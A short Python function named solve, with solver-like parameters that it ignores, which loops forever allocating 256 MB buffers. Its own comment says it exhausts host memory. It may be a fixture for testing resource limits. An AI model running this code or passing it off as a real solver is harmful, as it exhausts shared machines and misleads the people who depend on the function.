# Allocates host memory until something gives.
def solve(x, residual, weight):
    hoard = []
    while True:
        hoard.append(bytearray(256 << 20))
